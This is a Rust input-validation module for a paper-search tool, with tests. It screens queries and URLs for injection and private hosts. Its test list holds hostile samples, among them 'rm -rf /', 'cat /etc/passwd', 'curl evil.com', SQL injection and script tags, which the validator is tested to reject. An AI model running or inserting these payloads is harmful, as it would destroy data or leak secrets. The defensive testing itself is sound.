//! Input validation and output sanitization.
//!
//! Every user-controlled value passes through this module before it reaches a
//! network call, a prompt or a renderer. Validation is fail-fast: the first
//! violation aborts with a [`ValidationError`] tagged by category, and no
//! partially normalized value escapes.
//!
//! # Order of checks
//!
//! 1. Shape (typed callers get this from the signature; see
//!    [`validate_query_value`] for untyped input)
//! 2. Injection pattern families on the raw text
//! 3. Literal denylist
//! 4. HTML escaping, control-character stripping, length limit
//! 5. Domain charset
//! 6. Year range format and bounds
//! 7. Paper count and temperature ranges
//!
//! Screening runs on the raw text so encoded payloads are caught before
//! escaping; charset and range checks run on the escaped text.

pub mod patterns;
pub mod sanitize;

use std::fmt;
use std::sync::LazyLock;

use chrono::Datelike;
use regex::Regex;
use serde_json::Value;
use thiserror::Error;
use url::Url;

use crate::models::{QueryParameters, YearRange};

pub use patterns::check_injection_patterns;
pub use sanitize::{escape_html, sanitize_display, sanitize_output};

/// Default per-field length limit for free text.
pub const DEFAULT_MAX_LENGTH: usize = 1000;

/// Length limit for the research domain.
pub const DOMAIN_MAX_LENGTH: usize = 100;

/// Length limit for the year range string.
pub const YEARS_MAX_LENGTH: usize = 20;

/// Earliest accepted start year.
pub const MIN_YEAR: i32 = 1990;

/// Accepted paper count bounds (inclusive).
pub const MIN_PAPER_COUNT: i64 = 1;
pub const MAX_PAPER_COUNT: i64 = 50;

/// Accepted temperature bounds (inclusive).
pub const MIN_TEMPERATURE: f64 = 0.1;
pub const MAX_TEMPERATURE: f64 = 2.0;

static DOMAIN_CHARSET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[\w\s\-.()+&/]+$").expect("domain charset pattern is valid")
});

static YEARS_FORMAT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\d{4}-\d{4}$").expect("years pattern is valid"));

/// Host prefixes that point at loopback or private networks.
const PRIVATE_HOST_PREFIXES: &[&str] = &["localhost", "127.", "192.168.", "10.", "172."];

/// Schemes rejected outright.
const DANGEROUS_SCHEMES: &[&str] = &["file", "ftp", "javascript", "data"];

/// Which family of injection payload was detected.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InjectionClass {
    /// SQL keywords, comments, tautologies
    Sql,
    /// Shell metacharacters and privileged commands
    Command,
    /// Markup, script tags, event handlers, pseudo-protocols
    Script,
    /// Reflection and code execution primitives
    Code,
    /// A literal denylist term
    BlockedKeyword,
}

impl InjectionClass {
    /// Short human-readable label used in error messages.
    pub fn label(&self) -> &'static str {
        match self {
            InjectionClass::Sql => "SQL",
            InjectionClass::Command => "command",
            InjectionClass::Script => "script",
            InjectionClass::Code => "code",
            InjectionClass::BlockedKeyword => "keyword",
        }
    }
}

/// Cause category of a validation failure.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ValidationCategory {
    /// Wrong shape, charset or syntax
    Format,
    /// Value outside its numeric bounds
    Range,
    /// Too long or too short
    Length,
    /// Probable injection payload
    Injection(InjectionClass),
}

impl fmt::Display for ValidationCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ValidationCategory::Format => write!(f, "format"),
            ValidationCategory::Range => write!(f, "range"),
            ValidationCategory::Length => write!(f, "length"),
            ValidationCategory::Injection(class) => write!(f, "injection ({})", class.label()),
        }
    }
}

/// A rejected input.
///
/// The message never contains the offending input itself; at most it names
/// a constant denylist term.
#[derive(Debug, Clone, PartialEq, Error)]
#[error("{message}")]
pub struct ValidationError {
    category: ValidationCategory,
    message: String,
}

impl ValidationError {
    pub fn new(category: ValidationCategory, message: impl Into<String>) -> Self {
        Self {
            category,
            message: message.into(),
        }
    }

    pub fn format(message: impl Into<String>) -> Self {
        Self::new(ValidationCategory::Format, message)
    }

    pub fn range(message: impl Into<String>) -> Self {
        Self::new(ValidationCategory::Range, message)
    }

    pub fn length(message: impl Into<String>) -> Self {
        Self::new(ValidationCategory::Length, message)
    }

    pub fn injection(class: InjectionClass, message: impl Into<String>) -> Self {
        Self::new(ValidationCategory::Injection(class), message)
    }

    pub fn category(&self) -> ValidationCategory {
        self.category
    }

    pub fn message(&self) -> &str {
        &self.message
    }
}

/// Result type for validation.
pub type ValidationResult<T> = Result<T, ValidationError>;

/// The latest year accepted as the end of a range.
pub fn current_year() -> i32 {
    chrono::Utc::now().year()
}

/// Screen, escape and length-check one free-text field.
///
/// Returns the escaped text with NUL and CR removed, LF collapsed to a
/// space, and surrounding whitespace trimmed. The length limit is measured
/// in characters on the escaped text before trimming.
pub fn sanitize_text_input(text: &str, max_length: usize) -> ValidationResult<String> {
    check_injection_patterns(text)?;

    let escaped = escape_html(text)
        .replace('\0', "")
        .replace('\r', "")
        .replace('\n', " ");

    if escaped.chars().count() > max_length {
        return Err(ValidationError::length(format!(
            "Input too long. Maximum {max_length} characters allowed"
        )));
    }

    Ok(escaped.trim().to_string())
}

/// Validate the research domain on its own.
pub fn validate_domain(domain: &str) -> ValidationResult<String> {
    let domain = sanitize_text_input(domain, DOMAIN_MAX_LENGTH)?;

    if domain.chars().count() < 2 {
        return Err(ValidationError::length(
            "Domain must be at least 2 characters long",
        ));
    }

    if !DOMAIN_CHARSET.is_match(&domain) {
        return Err(ValidationError::format(
            "Domain contains invalid characters. Only letters, numbers, spaces, \
             hyphens, dots, parentheses, plus, ampersand and slash are allowed",
        ));
    }

    Ok(domain)
}

/// Validate a `YYYY-YYYY` year range on its own.
pub fn validate_years(years: &str) -> ValidationResult<YearRange> {
    let years = sanitize_text_input(years, YEARS_MAX_LENGTH)?;

    if !YEARS_FORMAT.is_match(&years) {
        return Err(ValidationError::format(
            "Years must be in format 'YYYY-YYYY'",
        ));
    }

    let (start, end) = years
        .split_once('-')
        .and_then(|(s, e)| Some((s.parse::<i32>().ok()?, e.parse::<i32>().ok()?)))
        .ok_or_else(|| ValidationError::format("Years must be in format 'YYYY-YYYY'"))?;

    let max_year = current_year();
    if start < MIN_YEAR || end > max_year {
        return Err(ValidationError::range(format!(
            "Years must be between {MIN_YEAR} and {max_year}"
        )));
    }

    if start > end {
        return Err(ValidationError::range(
            "Start year must be less than or equal to end year",
        ));
    }

    Ok(YearRange::new(start, end))
}

/// Validate the number of papers to retrieve.
pub fn validate_paper_count(paper_count: i64) -> ValidationResult<usize> {
    if !(MIN_PAPER_COUNT..=MAX_PAPER_COUNT).contains(&paper_count) {
        return Err(ValidationError::range(format!(
            "Paper count must be between {MIN_PAPER_COUNT} and {MAX_PAPER_COUNT}"
        )));
    }
    Ok(paper_count as usize)
}

/// Validate the sampling temperature. NaN is out of range.
pub fn validate_temperature(temperature: f64) -> ValidationResult<f32> {
    if !(MIN_TEMPERATURE..=MAX_TEMPERATURE).contains(&temperature) {
        return Err(ValidationError::range(format!(
            "Temperature must be between {MIN_TEMPERATURE} and {MAX_TEMPERATURE}"
        )));
    }
    Ok(temperature as f32)
}

/// Validate a complete query and build [`QueryParameters`].
///
/// This is the only way to obtain a `QueryParameters` value.
pub fn validate_query(
    domain: &str,
    years: &str,
    paper_count: i64,
    temperature: f64,
) -> ValidationResult<QueryParameters> {
    let domain = validate_domain(domain)?;
    let year_range = validate_years(years)?;
    let paper_count = validate_paper_count(paper_count)?;
    let temperature = validate_temperature(temperature)?;

    Ok(QueryParameters::new(domain, year_range, paper_count, temperature))
}

/// Validate an untyped query object.
///
/// Expects `domain` and `years` as JSON strings and `paper_count` and
/// `temperature` as JSON numbers. A fractional paper count is truncated
/// toward zero.
pub fn validate_query_value(input: &Value) -> ValidationResult<QueryParameters> {
    let domain = input
        .get("domain")
        .and_then(Value::as_str)
        .ok_or_else(|| ValidationError::format("Domain must be a string"))?;

    let years = input
        .get("years")
        .and_then(Value::as_str)
        .ok_or_else(|| ValidationError::format("Years must be a string in format 'YYYY-YYYY'"))?;

    let paper_count = match input.get("paper_count") {
        Some(Value::Number(n)) => n
            .as_i64()
            .or_else(|| n.as_f64().map(|f| f.trunc() as i64))
            .ok_or_else(|| ValidationError::format("Paper count must be a number"))?,
        _ => return Err(ValidationError::format("Paper count must be a number")),
    };

    let temperature = match input.get("temperature") {
        Some(Value::Number(n)) => n
            .as_f64()
            .ok_or_else(|| ValidationError::format("Temperature must be a number"))?,
        _ => return Err(ValidationError::format("Temperature must be a number")),
    };

    validate_query(domain, years, paper_count, temperature)
}

/// Check that a URL is safe to hand to a client.
///
/// Only `http`/`https` with a public-looking host pass. Malformed input
/// returns `false`.
pub fn validate_url(url: &str) -> bool {
    let Ok(parsed) = Url::parse(url) else {
        return false;
    };

    let scheme = parsed.scheme();
    if DANGEROUS_SCHEMES.contains(&scheme) || !matches!(scheme, "http" | "https") {
        return false;
    }

    let host = match parsed.host_str() {
        Some(host) if !host.is_empty() => host,
        _ => return false,
    };

    !PRIVATE_HOST_PREFIXES
        .iter()
        .any(|prefix| host.starts_with(prefix))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    fn category_of(result: ValidationResult<QueryParameters>) -> ValidationCategory {
        result.expect_err("expected validation failure").category()
    }

    #[test]
    fn test_valid_query() {
        let params = validate_query("Machine Learning", "2020-2024", 5, 0.7).unwrap();
        assert_eq!(params.domain(), "Machine Learning");
        assert_eq!(params.year_range(), YearRange::new(2020, 2024));
        assert_eq!(params.years(), "2020-2024");
        assert_eq!(params.paper_count(), 5);
        assert!((params.temperature() - 0.7).abs() < 1e-6);
    }

    #[test]
    fn test_domain_is_trimmed() {
        let params = validate_query("  Quantum Computing (NISQ)  ", "2020-2024", 5, 0.7).unwrap();
        assert_eq!(params.domain(), "Quantum Computing (NISQ)");
    }

    #[test]
    fn test_academic_punctuation_survives() {
        for domain in ["C/C++ Compilers", "Graph Neural Nets (GNN)", "Retrieval-Augmented Generation", "Web3.0"] {
            let params = validate_query(domain, "2020-2024", 5, 0.7).unwrap();
            assert_eq!(params.domain(), domain);
        }
    }

    #[test]
    fn test_malicious_inputs_are_blocked() {
        let cases = [
            ("'; DROP TABLE users; --", InjectionClass::Sql),
            ("Machine Learning' OR 1=1 --", InjectionClass::Sql),
            ("ML UNION SELECT * FROM secrets", InjectionClass::Sql),
            ("exec('rm -rf /')", InjectionClass::Sql),
            ("<script>alert('xss')</script>", InjectionClass::Script),
            ("javascript:alert('hack')", InjectionClass::Script),
            ("__import__('os').system('ls')", InjectionClass::Command),
            ("eval('malicious code')", InjectionClass::Command),
            ("system('cat /etc/passwd')", InjectionClass::Command),
            ("ML && curl evil.com", InjectionClass::Command),
            ("../../../etc/passwd", InjectionClass::Command),
            (
                r#"python -c 'import os; os.system("whoami")'"#,
                InjectionClass::Command,
            ),
            ("getattr(model, 'weights')", InjectionClass::Code),
            ("Transformers globals()", InjectionClass::Code),
        ];

        for (input, class) in cases {
            assert_eq!(
                category_of(validate_query(input, "2020-2024", 5, 0.7)),
                ValidationCategory::Injection(class),
                "input: {input}"
            );
        }
    }

    #[test]
    fn test_error_message_does_not_echo_input() {
        let payload = "<img src=x onerror=alert(1)>";
        let err = validate_query(payload, "2020-2024", 5, 0.7).unwrap_err();
        assert!(!err.message().contains(payload));
    }

    #[test]
    fn test_length_limits() {
        assert_eq!(
            category_of(validate_query("", "2020-2024", 5, 0.7)),
            ValidationCategory::Length
        );
        assert_eq!(
            category_of(validate_query("A", "2020-2024", 5, 0.7)),
            ValidationCategory::Length
        );
        assert_eq!(
            category_of(validate_query(&"A".repeat(200), "2020-2024", 5, 0.7)),
            ValidationCategory::Length
        );
        assert!(validate_query(&"A".repeat(100), "2020-2024", 5, 0.7).is_ok());
    }

    #[test]
    fn test_charset_rejects_escaped_characters() {
        assert_eq!(
            category_of(validate_query("Alzheimer's Disease", "2020-2024", 5, 0.7)),
            ValidationCategory::Format
        );
        assert_eq!(
            category_of(validate_query("R&D Strategy", "2020-2024", 5, 0.7)),
            ValidationCategory::Format
        );
        assert_eq!(
            category_of(validate_query("Topic @ scale", "2020-2024", 5, 0.7)),
            ValidationCategory::Format
        );
    }

    #[test]
    fn test_line_breaks_collapse() {
        let params = validate_query("Deep\nLearning\r", "2020-2024", 5, 0.7).unwrap();
        assert_eq!(params.domain(), "Deep Learning");
    }

    #[test]
    fn test_year_validation() {
        assert_eq!(
            category_of(validate_query("Valid Domain", "2020", 5, 0.7)),
            ValidationCategory::Format
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "20-2024", 5, 0.7)),
            ValidationCategory::Format
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "1500-2030", 5, 0.7)),
            ValidationCategory::Range
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "1989-2000", 5, 0.7)),
            ValidationCategory::Range
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "2024-2020", 5, 0.7)),
            ValidationCategory::Range
        );

        let this_year = current_year();
        let years = format!("1990-{this_year}");
        assert!(validate_query("Valid Domain", &years, 5, 0.7).is_ok());

        let years = format!("2020-{}", this_year + 1);
        assert_eq!(
            category_of(validate_query("Valid Domain", &years, 5, 0.7)),
            ValidationCategory::Range
        );
    }

    #[test]
    fn test_paper_count_boundaries() {
        assert!(validate_query("Valid Domain", "2020-2024", 1, 0.7).is_ok());
        assert!(validate_query("Valid Domain", "2020-2024", 50, 0.7).is_ok());
        assert_eq!(
            category_of(validate_query("Valid Domain", "2020-2024", 0, 0.7)),
            ValidationCategory::Range
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "2020-2024", 51, 0.7)),
            ValidationCategory::Range
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "2020-2024", 100, 0.7)),
            ValidationCategory::Range
        );
    }

    #[test]
    fn test_temperature_boundaries() {
        assert!(validate_query("Valid Domain", "2020-2024", 5, 0.1).is_ok());
        assert!(validate_query("Valid Domain", "2020-2024", 5, 2.0).is_ok());
        for temperature in [0.05, 2.01, 5.0, f64::NAN, f64::INFINITY] {
            assert_eq!(
                category_of(validate_query("Valid Domain", "2020-2024", 5, temperature)),
                ValidationCategory::Range
            );
        }
    }

    #[test]
    fn test_fail_fast_order() {
        // Domain is checked before years, years before count.
        assert_eq!(
            category_of(validate_query("x; rm", "bad", 0, 9.0)),
            ValidationCategory::Injection(InjectionClass::Command)
        );
        assert_eq!(
            category_of(validate_query("Valid Domain", "bad", 0, 9.0)),
            ValidationCategory::Format
        );
    }

    #[test]
    fn test_validated_domain_revalidates_unchanged() {
        let first = validate_query("  Federated Learning  ", "2020-2024", 5, 0.7).unwrap();
        let second = validate_query(first.domain(), &first.years(), 5, 0.7).unwrap();
        assert_eq!(first, second);
    }

    #[test]
    fn test_validate_query_value_shapes() {
        let ok = validate_query_value(&json!({
            "domain": "Machine Learning",
            "years": "2020-2024",
            "paper_count": 5.9,
            "temperature": 1
        }))
        .unwrap();
        assert_eq!(ok.paper_count(), 5);
        assert!((ok.temperature() - 1.0).abs() < 1e-6);

        let cases = [
            json!({"domain": 42, "years": "2020-2024", "paper_count": 5, "temperature": 0.7}),
            json!({"domain": "ML", "years": 2020, "paper_count": 5, "temperature": 0.7}),
            json!({"domain": "ML", "years": "2020-2024", "paper_count": "5", "temperature": 0.7}),
            json!({"domain": "ML", "years": "2020-2024", "paper_count": true, "temperature": 0.7}),
            json!({"domain": "ML", "years": "2020-2024", "paper_count": 5}),
        ];
        for case in cases {
            assert_eq!(
                validate_query_value(&case).unwrap_err().category(),
                ValidationCategory::Format,
                "case: {case}"
            );
        }
    }

    #[test]
    fn test_validate_query_value_truncates_small_count_to_zero() {
        let err = validate_query_value(&json!({
            "domain": "ML",
            "years": "2020-2024",
            "paper_count": 0.9,
            "temperature": 0.7
        }))
        .unwrap_err();
        assert_eq!(err.category(), ValidationCategory::Range);
    }

    #[test]
    fn test_validate_url() {
        assert!(validate_url("https://arxiv.org/abs/2401.00001v1"));
        assert!(validate_url("http://arxiv.org/abs/2401.00001v1"));

        for url in [
            "javascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "file:///etc/passwd",
            "ftp://arxiv.org/pub",
            "http://localhost:8080/",
            "http://127.0.0.1/",
            "https://10.0.0.5/",
            "https://192.168.1.1/admin",
            "https://172.16.0.1/",
            "https://",
            "not a url",
            "",
            "mailto:someone@example.com",
        ] {
            assert!(!validate_url(url), "url should be rejected: {url}");
        }
    }

    proptest! {
        #[test]
        fn prop_well_formed_domains_pass(
            domain in "[A-Z][a-z]{2,10}( [A-Z][a-z]{2,10}){0,3}",
            start in 1990i32..2020,
            span in 0i32..5,
            count in 1i64..=50,
            temp_tenths in 1u32..=20,
        ) {
            // Words that trip the blocklist are legitimately rejected.
            prop_assume!(check_injection_patterns(&domain).is_ok());
            let years = format!("{start}-{}", start + span);
            let temperature = f64::from(temp_tenths) / 10.0;
            let params = validate_query(&domain, &years, count, temperature).unwrap();
            prop_assert_eq!(params.domain(), domain.as_str());
            prop_assert_eq!(params.paper_count() as i64, count);
        }

        #[test]
        fn prop_denylist_terms_are_rejected(
            prefix in "[A-Za-z ]{0,8}",
            idx in 0usize..patterns::DENYLIST.len(),
            suffix in "[A-Za-z ]{0,8}",
        ) {
            let domain = format!("{prefix}{}{suffix}", patterns::DENYLIST[idx]);
            let err = validate_query(&domain, "2020-2024", 5, 0.7).unwrap_err();
            prop_assert!(matches!(err.category(), ValidationCategory::Injection(_)));
        }
    }
}
